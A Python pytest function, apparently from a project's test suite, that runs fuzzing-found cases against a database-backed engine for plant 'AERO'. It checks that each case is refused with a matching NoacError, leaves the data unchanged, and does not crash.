def test_fuzzing_findings_are_refused(bug_engine, bug):
    with Session(bug_engine, expire_on_commit=False) as session:
        plant = resolve_plant(session=session, code="AERO")
        if bug.setup is not None:
            bug.setup(session, plant)
        before = snapshot(bug_engine)
        try:
            bug.call(session, plant)
        except NoacError as error:
            assert re.search(bug.refusal, str(error)), f"refused for another reason: {error}"
            assert snapshot(bug_engine) == before
            return
        except Exception as exc:  # a short report: these tracebacks are long and slow to render
            pytest.fail(f"{bug.case} crashes: {crash_signature(exc)}", pytrace=False)
        finally:
            session.rollback()
    pytest.fail(f"{bug.case}: accepted, but it must be refused", pytrace=False)
